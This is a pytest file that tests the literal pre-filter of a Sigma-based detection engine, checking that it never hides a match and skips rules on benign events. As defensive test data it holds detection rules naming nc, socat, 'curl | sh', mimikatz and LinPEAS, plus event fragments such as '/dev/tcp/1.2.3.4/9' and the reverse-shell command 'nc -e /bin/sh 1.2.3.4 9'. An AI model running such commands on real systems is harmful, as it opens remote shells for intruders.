"""The literal pre-filter: it must never hide a match (compared against calling every rule)
and it must keep most rules from being called on benign events."""

from __future__ import annotations

import random
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from sigma.rule import SigmaRule

from backplane.schema import Action
from controller.detection import DetectionEngine
from controller.detection.compiler import compile_rule
from controller.detection.fields import KEYWORD_FIELDS, as_text, lower_text

RULES = {
    "contains_all": """
logsource: {product: linux, category: process_creation}
detection:
  sel: {CommandLine|contains|all: ['curl ', '| sh']}
  condition: sel
""",
    "endswith_list_not": """
logsource: {product: linux, category: process_creation}
detection:
  sel: {Image|endswith: ['/nc', '/ncat', '/socat']}
  filter: {ParentImage|endswith: '/systemd'}
  condition: sel and not filter
""",
    "not_only": """
logsource: {product: linux, category: process_creation}
detection:
  sel: {User: root}
  condition: not sel
""",
    "one_of": """
logsource: {product: linux, category: process_creation}
detection:
  sel_a: {CommandLine|contains: 'base64 -d'}
  sel_b: {CommandLine|re: 'python[0-9.]* -c .*socket'}
  condition: 1 of sel_*
""",
    "keywords": """
logsource: {product: linux, category: process_creation}
detection:
  keywords: ['mimikatz', 'LinPEAS']
  condition: keywords
""",
    "glob_single": """
logsource: {product: linux, category: process_creation}
detection:
  sel: {Image: '/tmp/?x*/pay*'}
  condition: sel
""",
    "cased": """
logsource: {product: linux, category: process_creation}
detection:
  sel: {CommandLine|cased|contains: 'SECRET'}
  condition: sel
""",
    "args_list": """
logsource: {product: linux, category: process_creation}
detection:
  sel: {process.args|contains: '--no-check-certificate'}
  condition: sel
""",
    "unicode": """
logsource: {product: linux, category: process_creation}
detection:
  sel: {CommandLine|contains: 'ÄRGER'}
  condition: sel
""",
    "file_any": """
logsource: {product: linux, category: file_event}
detection:
  sel: {TargetFilename|startswith: ['/etc/cron', '/var/spool/cron']}
  condition: sel
""",
    "net": """
logsource: {product: linux, category: network_connection}
detection:
  sel: {DestinationIp|cidr: '203.0.113.0/24', Initiated: 'true'}
  condition: sel
""",
}


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory) -> DetectionEngine:
    folder = tmp_path_factory.mktemp("rules")
    for i, (name, body) in enumerate(RULES.items()):
        text = f"title: {name}\nid: 00000000-0000-4000-8000-{i:012d}\nlevel: high\n{body}"
        (folder / f"{name}.yml").write_text(text)
    eng = DetectionEngine(include_builtin=True)
    report = eng.load([folder])
    assert report.problems == [], [str(p) for p in report.problems]
    return eng


def brute_force(engine: DetectionEngine, event: Mapping[str, Any]) -> list[str]:
    """Call every enabled rule of the event's action, no pre-filter."""
    bucket = engine._index.get(event["event"]["action"])
    if bucket is None:
        return []
    out = []
    for rule in bucket.rules:
        raw = {n: g(event) for n, g in rule.compiled.getters.items()}
        low = {n: lower_text(as_text(v)) for n, v in raw.items()}
        if rule.predicate(low, raw):
            out.append(rule.info.id)
    return out


def random_events(ev: Any, n: int, seed: int) -> list[dict[str, Any]]:
    rnd = random.Random(seed)
    images = [
        "/usr/bin/nc",
        "/usr/bin/ls",
        "/tmp/ax1/payload",
        "/tmp/x/payload",
        "/usr/bin/curl",
        "/usr/bin/bash",
        "/usr/bin/NCAT",
        "/bin/socat",
    ]
    pieces = [
        "curl ",
        "| sh",
        "base64 -d",
        "python3 -c import socket",
        "mimikatz",
        "linpeas",
        "SECRET",
        "secret",
        "ärger",
        "ÄRGER",
        "\udcff",
        "/dev/tcp/1.2.3.4/9",
        "-la",
        "--no-check-certificate",
        "wget",
        "chmod +x /tmp/x",
        " ",
    ]
    parents = ["/usr/lib/systemd/systemd", "/usr/bin/bash", "/usr/bin/SYSTEMD"]
    files = [
        "/etc/cron.d/x",
        "/var/spool/cron/root",
        "/home/a/x",
        "/etc/ld.so.preload",
        "/root/.ssh/authorized_keys",
        "/etc/CRON.d/y",
    ]
    out: list[dict[str, Any]] = []
    for _ in range(n):
        kind = rnd.random()
        cmd = "".join(rnd.choice(pieces) for _ in range(rnd.randint(0, 5)))
        user = rnd.choice(["root", "alice", "ROOT"])
        if kind < 0.6:
            out.append(
                ev.exec(rnd.choice(images), cmd or "x", user=user, parent_image=rnd.choice(parents))
            )
        elif kind < 0.85:
            out.append(
                ev.file(
                    rnd.choice(files),
                    rnd.choice([Action.FILE_WRITE, Action.FILE_CREATE, Action.FILE_RENAME]),
                )
            )
        else:
            out.append(
                ev.net(
                    rnd.choice(["203.0.113.7", "198.51.100.1", "::ffff:203.0.113.9"]),
                    rnd.choice([22, 4444, 443]),
                    image=rnd.choice(images),
                )
            )
    return out


def test_prefilter_never_hides_a_match(engine: DetectionEngine, ev: Any) -> None:
    events = random_events(ev, 3000, seed=11)
    fired = 0
    for event in events:
        want = brute_force(engine, event)
        got = [m.rule_id for m in engine.match(event)]
        assert got == want, event
        fired += bool(want)
    # The mix must actually exercise matches, or the comparison proves nothing.
    assert fired > 300


def test_prefilter_skips_rules_on_benign_events(engine: DetectionEngine, ev: Any) -> None:
    before = engine.evaluations
    for _ in range(100):
        assert engine.match(ev.exec("/usr/bin/ls", "ls -la /var/log", user="root")) == []
    per_event = (engine.evaluations - before) / 100
    # The unguarded rules are always called: "not_only" (a bare NOT has no required literal)
    # and "one_of" (one branch is a regex); beyond those, only a rule whose needle happens
    # to occur (a built-in one keys on "/usr/bin/" paths) may be.
    assert 2 <= per_event <= 3
    assert engine.actions()["exec"] >= 15


def test_list_field_matches_through_any_element(engine: DetectionEngine, ev: Any) -> None:
    event = ev.exec("/usr/bin/wget", "wget --no-check-certificate https://x", user="root")
    assert "args_list" in [m.title for m in engine.match(event)]


def test_undecodable_text_does_not_break_the_filter(engine: DetectionEngine, ev: Any) -> None:
    event = ev.exec("/usr/bin/nc", "nc \udcff\udc80 -e /bin/sh", user="root")
    assert "endswith_list_not" in [m.title for m in engine.match(event)]


def _guard(body: str) -> frozenset[tuple[str, str]] | None:
    rule = SigmaRule.from_yaml(f"title: t\n{body}")
    return compile_rule(rule).guard


def test_guard_derivation() -> None:
    assert _guard(RULES["contains_all"]) in (
        frozenset({("CommandLine", "curl ")}),
        frozenset({("CommandLine", "| sh")}),
    )
    assert _guard(RULES["endswith_list_not"]) == frozenset(
        {("Image", "/nc"), ("Image", "/ncat"), ("Image", "/socat")}
    )
    assert _guard(RULES["not_only"]) is None
    assert _guard(RULES["one_of"]) is None  # the regex branch has no literal guard
    assert _guard(RULES["cased"]) is None
    assert _guard(RULES["keywords"]) == frozenset(
        (f, w) for f in KEYWORD_FIELDS for w in ("mimikatz", "linpeas")
    )
    # Wildcards split a value; the longest literal piece is the needle.
    assert _guard(RULES["glob_single"]) == frozenset({("Image", "/tmp/")})
    assert _guard(RULES["net"]) == frozenset({("Initiated", "true")})


def test_builtin_rules_are_all_guarded() -> None:
    engine = DetectionEngine()
    engine.load([])
    for bucket in engine._index.values():
        assert not bucket.always, [bucket.rules[i].info.title for i in bucket.always]


def test_disable_updates_the_filter(engine: DetectionEngine, ev: Any, tmp_path: Path) -> None:
    event = ev.exec("/usr/bin/nc", "nc -e /bin/sh 1.2.3.4 9", user="root")
    rid = next(m.rule_id for m in engine.match(event) if m.title == "endswith_list_not")
    engine.disable(rid)
    try:
        assert rid not in [m.rule_id for m in engine.match(event)]
    finally:
        engine.enable(rid)
    assert rid in [m.rule_id for m in engine.match(event)]
